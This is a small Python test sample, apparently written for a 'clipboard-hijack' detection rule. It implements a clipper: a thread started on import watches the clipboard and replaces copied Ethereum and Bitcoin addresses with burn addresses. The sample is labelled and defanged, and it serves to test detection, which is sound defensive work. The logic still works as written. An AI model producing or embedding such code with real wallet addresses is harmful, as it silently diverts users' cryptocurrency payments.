# A clipper: a thread started on import watches the clipboard and swaps wallet addresses (defanged:
# the replacement addresses below are well-known burn/example addresses).
import re
import threading
import time

import pyperclip

ETH = re.compile(r'^0x[a-fA-F0-9]{40}$')
BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')


def _watch():
    while True:
        text = pyperclip.paste().strip()
        if ETH.match(text):
            # ruleid: code/clipboard-hijack
            pyperclip.copy('0x000000000000000000000000000000000000dEaD')
        elif BTC.match(text):
            pyperclip.copy('1BitcoinEaterAddressDontSendf59kuE')
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
